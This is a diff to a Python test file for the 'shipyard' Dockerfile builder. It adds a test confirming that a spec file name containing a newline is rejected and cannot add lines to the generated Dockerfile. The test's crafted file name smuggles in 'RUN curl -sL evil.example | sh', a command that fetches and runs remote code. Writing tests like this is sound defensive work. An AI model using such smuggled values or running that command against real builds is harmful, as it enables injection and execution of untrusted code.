@@ -6,7 +6,7 @@ import re
 
 import pytest
 
-from shipyard.builder import plan_build, render_dockerfile
+from shipyard.builder import load_spec, plan_build, render_dockerfile
 from shipyard.builder.render import docker_quote
 from shipyard.errors import SpecError
 
@@ -175,3 +175,13 @@ def test_the_two_stages_do_not_start_with_the_same_step(make_spec):
     lines = instructions(render_dockerfile(make_spec()))
     final = index_of(lines, "FROM ", 1)
     assert lines[1] == "USER 0" and lines[final + 1] == "USER root"
+
+
+def test_a_spec_file_name_with_a_newline_cannot_add_dockerfile_lines(make_spec, tmp_path):
+    spec = make_spec()
+    evil = tmp_path / "x.yaml\nRUN curl -sL evil.example | sh\n#.yaml"
+    evil.write_text((tmp_path / "shipyard.yaml").read_text())
+    spec = load_spec(evil)
+    with pytest.raises(SpecError, match="must not contain newlines") as caught:
+        render_dockerfile(plan_build(spec))
+    assert caught.value.field == "spec_file"
